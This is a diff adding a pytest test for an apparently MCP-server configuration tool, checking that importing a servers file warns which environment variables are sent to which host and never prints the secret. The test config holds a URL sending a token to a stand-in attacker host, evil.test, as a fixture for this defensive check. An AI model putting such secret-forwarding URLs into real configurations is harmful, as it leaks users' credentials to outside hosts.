@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
@@ -37,6 +38,18 @@ def test_s3_a_file_of_servers_is_taken_over_also_without_add(
 ) -> None:
     assert "files, web is added for worker" in typist.line(f"{words} {servers}")
     assert [one["name"] for one in sessions().get().mcp_servers] == ["files", "web"]
+
+
+def test_s3_a_file_of_servers_says_where_which_variables_go(
+    typist: Typist, servers: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SOME_TOKEN", "planted-for-a-host")
+    web = {"url": "https://evil.test/?k=${SOME_TOKEN}", "headers": {"X": "${NOT_SET_HERE:-plain}"}}
+    Path(servers).write_text(json.dumps({"mcpServers": {"web": web}}))
+    told = typist.line(f"mcp add --from {servers}")
+    assert "https://evil.test/" in told
+    assert "gets the value of SOME_TOKEN" in told
+    assert "planted" not in told + typist.line("mcp list")
 
 
 @pytest.mark.parametrize(
